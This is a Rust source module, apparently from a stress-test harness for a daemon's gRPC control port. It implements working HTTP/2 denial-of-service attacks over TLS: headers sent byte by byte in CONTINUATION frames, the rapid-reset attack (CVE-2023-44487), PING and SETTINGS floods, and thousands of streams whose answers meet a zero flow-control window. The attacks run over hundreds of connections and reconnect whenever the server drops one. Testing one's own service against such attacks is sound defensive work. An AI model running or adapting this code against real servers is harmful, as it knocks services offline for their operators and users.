//! Attackers who speak HTTP/2 (RFC 9113) to the control port, over good TLS.

use std::{io, sync::Arc, time::Duration};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _, ReadHalf, WriteHalf, split},
    net::TcpStream,
    sync::Mutex,
    task::JoinSet,
    time::{Instant, interval, timeout_at},
};
use tokio_rustls::client::TlsStream;

use super::{
    connections::{Pace, TURN, block_on, connect_tls, source, tls, together},
    grpc,
    target::{Offered, Target},
};

/// The types of frames that are sent or answered (section 6).
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

/// Their flags.
const ACK: u8 = 1;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Streams that one connection leaves open: as many as the daemon lets it.
const MOST_OPEN: u32 = 4_000;

/// What they do.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Way {
    /// A head that comes byte by byte, in CONTINUATION frames.
    SlowHeads,
    /// Requests that are reset at once (CVE-2023-44487).
    Resets,
    /// PING and SETTINGS, all of which want an answer.
    Pings,
    /// Calls that need no credential, whose answers find a window of nothing.
    UnreadByAnybody,
    /// Calls with a good credential, half of them of streams, whose answers find a window of nothing.
    UnreadByCaller,
}

impl Way {
    pub(super) fn name(self) -> &'static str {
        match self {
            Self::SlowHeads => "HTTP/2: heads byte by byte",
            Self::Resets => "HTTP/2: rapid reset",
            Self::Pings => "HTTP/2: PING and SETTINGS",
            Self::UnreadByAnybody => "HTTP/2: unread, no credential",
            Self::UnreadByCaller => "HTTP/2: unread, a caller",
        }
    }

    fn connections(self) -> u32 {
        match self {
            // One source's share.
            Self::SlowHeads | Self::UnreadByAnybody => 250,
            Self::Resets | Self::Pings => 16,
            Self::UnreadByCaller => 32,
        }
    }

    /// How often a second one connection acts, of all that the attacker would.
    fn rate(self, rate: u32) -> f64 {
        let each = f64::from(rate) / f64::from(self.connections());
        match self {
            // Slow is what it is to be.
            Self::SlowHeads => each.min(10.0),
            _ => each,
        }
    }

    /// What is sent before anything else.
    fn opening(self) -> Vec<u8> {
        let window: &[u8] = match self {
            // SETTINGS_INITIAL_WINDOW_SIZE of 0.
            Self::UnreadByAnybody | Self::UnreadByCaller => &[0, 4, 0, 0, 0, 0],
            _ => &[],
        };
        let mut opening = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        opening.extend(frame(SETTINGS, 0, 0, window));
        opening
    }

    /// What is sent as the so-many-th; `None` where there is no more to send.
    fn next(self, number: u32, bearer: &str) -> Option<Vec<u8>> {
        let stream = 2 * number + 1;
        Some(match self {
            Self::SlowHeads if number == 0 => frame(HEADERS, 0, 1, &[0x83]),
            Self::SlowHeads => frame(CONTINUATION, 0, 1, &[0x87]),
            Self::Resets => {
                let head = grpc::http2_head(grpc::STATUS, None);
                let mut both = frame(HEADERS, END_HEADERS | END_STREAM, stream, &head);
                both.extend(frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
                both
            }
            Self::Pings if number.is_multiple_of(2) => frame(PING, 0, 0, &[0; 8]),
            Self::Pings => frame(SETTINGS, 0, 0, &[]),
            Self::UnreadByAnybody | Self::UnreadByCaller if number >= MOST_OPEN => return None,
            Self::UnreadByAnybody => call(stream, &grpc::http2_head(grpc::HEALTH, None)),
            Self::UnreadByCaller => {
                let path = match number.is_multiple_of(2) {
                    true => grpc::WATCH,
                    false => grpc::STATUS,
                };
                call(stream, &grpc::http2_head(path, Some(bearer)))
            }
        })
    }
}

/// A frame (section 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// A whole call with a message of nothing.
fn call(stream: u32, head: &[u8]) -> Vec<u8> {
    let mut call = frame(HEADERS, END_HEADERS, stream, head);
    call.extend(frame(DATA, END_STREAM, stream, &grpc::NOTHING));
    call
}

/// Attacks from one source for as long, over several connections; one that the daemon ends is made anew.
pub(super) fn run(way: Way, target: &Target, rate: u32, time: Duration) -> io::Result<Offered> {
    let tls = tls(&target.ca_pem, b"h2")?;
    block_on(async {
        let end = Instant::now() + time;
        let mut attackers = JoinSet::new();
        for _ in 0..way.connections() {
            let (tls, to, bearer) = (Arc::clone(&tls), target.control, target.bearer.clone());
            attackers.spawn(async move {
                let mut offered = Offered::default();
                while Instant::now() < end {
                    let Ok(stream) = connect_tls(source(1), to, &tls).await else {
                        tokio::time::sleep(TURN).await;
                        continue;
                    };
                    // Whatever ends it, there is another one.
                    let attack = attack(way, stream, &bearer, rate, &mut offered);
                    drop(timeout_at(end, attack).await);
                }
                offered
            });
        }
        together(attackers).await
    })
}

async fn attack(
    way: Way,
    stream: TlsStream<TcpStream>,
    bearer: &str,
    rate: u32,
    offered: &mut Offered,
) -> io::Result<()> {
    let (reader, mut writer) = split(stream);
    writer.write_all(&way.opening()).await?;
    let writer = Arc::new(Mutex::new(writer));
    let write = async {
        let mut pace = Pace::new(way.rate(rate));
        let mut turn = interval(TURN);
        let mut number = 0;
        loop {
            turn.tick().await;
            let mut burst = Vec::new();
            for _ in 0..pace.due() {
                let Some(next) = way.next(number, bearer) else {
                    break;
                };
                burst.extend(next);
                number += 1;
                offered.count += 1;
            }
            offered.bytes += burst.len() as u64;
            let mut writer = writer.lock().await;
            writer.write_all(&burst).await?;
            writer.flush().await?;
        }
    };
    tokio::select! {
        ended = write => ended,
        ended = answer_pings(reader, &writer) => ended,
    }
}

/// Reads what comes and answers pings, so that the connection is taken for a live one.
async fn answer_pings(
    mut reader: ReadHalf<TlsStream<TcpStream>>,
    writer: &Mutex<WriteHalf<TlsStream<TcpStream>>>,
) -> io::Result<()> {
    loop {
        let mut head = [0; 9];
        reader.read_exact(&mut head).await?;
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
        let mut payload = vec![0; length as usize];
        reader.read_exact(&mut payload).await?;
        if head[3] == PING && head[4] & ACK == 0 {
            let mut writer = writer.lock().await;
            writer.write_all(&frame(PING, ACK, 0, &payload)).await?;
            writer.flush().await?;
        }
    }
}
